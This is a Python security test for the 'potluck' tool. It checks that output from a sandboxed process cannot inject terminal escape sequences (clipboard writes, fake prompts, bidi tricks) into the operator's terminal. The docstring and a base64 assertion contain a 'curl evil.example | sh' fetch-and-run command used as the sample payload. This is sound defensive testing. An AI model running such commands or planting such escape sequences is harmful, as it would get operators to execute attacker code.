"""Adversarial review (issue 13 follow-up): a sandboxed process's output on the operator's
terminal. Real `potluck` command, real broker, real engine; fails on the code as reviewed.
"""

from __future__ import annotations

import re
from pathlib import Path

from .support import HOSTILE, assert_inert, engine, on_a_terminal, potluck


def _on_a_terminal(home: Path, *args: str) -> str:
    """`potluck ARGS` with stdout and stderr on one pseudo-terminal, as a person runs it."""
    _code, shown, _ = on_a_terminal(home, *args)
    return shown.decode("utf-8", errors="replace")


def test_sandbox_exec_shows_what_a_sandboxed_process_prints_inert(tmp_path: Path) -> None:
    """Severity: low. `potluck sandbox exec ROOM CMD` (the operator's way to look into a
    room's sandbox: "as an agent would") echoes the command's stdout and stderr raw with
    click.echo, unlike every other command that prints a stranger's text (`say`,
    `emit_data`). Whatever an agent left in the workspace — a file's content, a file name
    in `ls` — reaches the operator's terminal as escape sequences: OSC 52 writes the
    clipboard (`curl evil | sh` ready to paste), the screen is cleared or a fake prompt
    drawn, bidi overrides disguise text. The attacker gets: a hostile recipe's agent (or a
    chat participant steering one) acts on the operator's terminal. Smallest fix: print
    `result.stdout`/`stderr` with `emit_data` (exact into a pipe, `terminal_safe` on a
    terminal), and its stderr counterpart."""
    engine()
    home = tmp_path / "home"
    potluck(home, "init")
    room = "web:review-terminal"
    payload = HOSTILE.encode().hex()  # what a file in the workspace could hold
    command = (
        "python3 -c 'import sys; b = bytes.fromhex(sys.argv[1]); "
        f"sys.stdout.buffer.write(b); sys.stderr.buffer.write(b)' {payload}"
    )
    try:
        shown = _on_a_terminal(home, "sandbox", "exec", room, command)
    finally:
        potluck(home, "sandbox", "reset", room, ok=False)
    assert "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==" in shown, shown[-2000:]  # it did run
    own_style = re.compile(r"\x1b\[[0-9;]*m")  # click's dim/bold and reset: the command's own
    assert_inert(own_style.sub("", shown.replace("\r\n", "\n")))
